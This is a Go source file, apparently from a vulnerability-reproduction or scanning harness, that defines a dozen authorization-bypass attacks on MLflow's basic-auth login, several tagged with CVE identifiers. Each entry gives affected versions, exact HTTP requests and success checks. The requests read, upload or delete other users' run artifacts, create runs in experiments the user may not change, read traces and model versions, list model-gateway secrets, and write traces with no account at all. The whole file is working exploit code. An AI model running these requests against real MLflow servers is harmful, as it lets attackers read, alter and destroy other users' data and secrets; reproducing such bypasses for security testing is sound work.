package attack

// mlflowLogin passes by MLflow's own login: an ordinary user, or nobody, reads and changes what its permissions keep from them.
var mlflowLogin = []Attack{
	{
		ID: "mlflow/login-get-artifact", Doc: "downloads an artifact of a run that one may not read, by a route without a check", Works: []string{"2.9.2", "2.16.2", "2.8.0"}, Server: "basic-auth",
		Steps: steps(theirs(), theirFile(), []Step{get("/get-artifact?run_id=${vrun}&path=note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-upload-artifact", Doc: "uploads into a run that one may not change, by a route without a check", Works: []string{"2.9.2", "2.16.2"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${vrun}&path=note.txt\nContent-Type: text/plain\n\nother-${nonce}"}}),
		Proof: Proof{Probe: probe("GET " + files + "/${vexp}/${vrun}/artifacts/note.txt"), Shows: "other-${nonce}"},
	},
	{
		ID: "mlflow/login-metric-history", Doc: "reads metrics of a run that one may not read, by a route without a check", Works: []string{"2.9.2", "2.16.2", "2.8.0"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{get(ajax2 + "/metrics/get-history-bulk?run_id=${vrun}&metric_key=m")}),
		Proof: Proof{Answer: "4711.25"},
	},
	{
		ID: "mlflow/login-promptlab", Doc: "creates a run in an experiment that one may not change, by a route without a check", Works: []string{"2.9.2", "2.16.2"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{post(ajax2+"/runs/create-promptlab-run", `{"experiment_id": "${vexp}", "run_name": "planted-${nonce}", "prompt_template": "{{a}}", "prompt_parameters": [{"key": "a", "value": "b"}], "model_route": "r", "model_input": "i", "model_output": "o", "mlflow_version": "2.9.2"}`)}),
		Proof: Proof{Probe: &Step{Request: "POST " + api2 + "/runs/search\n\n" + `{"experiment_ids": ["${vexp}"]}`}, Shows: "planted-${nonce}"},
	},
	{
		ID: "mlflow/login-graphql", Doc: "reads a run that one may not read through GraphQL", Works: []string{"3.4.0"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{post("/graphql", `{"query": "query { mlflowGetRun(input: {runId: \"${vrun}\"}) { run { data { params { key value } } } } }"}`)}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-delete-artifacts", CVE: []string{"CVE-2024-4263"}, Doc: "deletes artifacts with no more than the right to edit", Works: []string{"2.9.2", "2.8.0"}, Server: "basic-auth",
		Steps: steps(theirs(), theirFile(), []Step{
			post(api2+"/experiments/permissions/create", `{"experiment_id": "${vexp}", "username": "scientist", "permission": "EDIT"}`).by(Victim).optional(),
			{Request: "DELETE " + files + "/${vexp}/${vrun}/artifacts"},
		}),
		Proof: Proof{Probe: probe("GET " + files + "/${vexp}/${vrun}/artifacts/note.txt"), Hides: "${secret}"},
	},
	{
		ID: "mlflow/login-source", Doc: "registers artifacts of a run that one may not read as one's own model, and reads them", Works: []string{"2.9.2", "2.16.2", "3.9.0"}, Server: "basic-auth",
		Steps: steps(theirs(), theirFile(), []Step{model(), version("mlflow-artifacts:/${vexp}/${vrun}/artifacts"), versionArtifact("note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-version-search", CVE: []string{"CVE-2026-2734"}, Doc: "finds versions that one may not read in a search", Works: []string{"2.9.2", "2.16.2", "3.9.0"}, Server: "basic-auth",
		Steps: steps(theirs(), theirModel(), []Step{get(api2 + "/model-versions/search?filter=name%3D'secret-${nonce}'")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-trace", CVE: []string{"CVE-2025-15381", "CVE-2026-8147"}, Doc: "reads a trace of an experiment that one may not read", Works: []string{"3.9.0"}, Server: "basic-auth",
		Steps: steps(theirs(), theirTrace(), []Step{get("/api/3.0/mlflow/traces/${vtrace}")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-logged-model", CVE: []string{"CVE-2026-33866"}, Doc: "downloads files of a logged model that one may not read", Works: []string{"3.9.0"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{
			post(api2+"/logged-models", `{"experiment_id": "${vexp}", "name": "theirs"}`).save("vmodel", "model.info.model_id").by(Victim),
			put(files+"/${vexp}/models/${vmodel}/artifacts/note.txt", []byte("${secret}")).by(Victim),
			get(ajax2 + "/logged-models/${vmodel}/artifacts/files?artifact_file_path=note.txt"),
		}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/login-gateway-secrets", CVE: []string{"CVE-2026-3198"}, Doc: "lists the secrets of the model gateway as an ordinary user", Works: []string{"3.9.0"}, Server: "basic-auth",
		Steps: []Step{
			post("/api/3.0/mlflow/gateway/secrets/create", `{"secret_name": "secret-${nonce}", "secret_value": {"api_key": "not-a-key-${nonce}"}, "provider": "openai"}`).by(Victim),
			get("/api/3.0/mlflow/gateway/secrets/list"),
		},
		Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "mlflow/login-otlp", CVE: []string{"CVE-2026-2652", "CVE-2026-0545"}, Doc: "writes a trace without any account into an experiment that one may not change", Works: []string{"3.9.0"}, Server: "basic-auth",
		Steps: steps(theirs(), []Step{{
			Request: "POST /v1/traces\nContent-Type: application/x-protobuf\nX-Mlflow-Experiment-Id: ${vexp}", Body: otlpTrace("planted"), By: Nobody}}),
		Proof: Proof{Probe: &Step{Request: "POST /api/3.0/mlflow/traces/search\n\n" + `{"locations": [{"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "${vexp}"}}], "max_results": 10}`}, Shows: "trace_id"},
	},
}
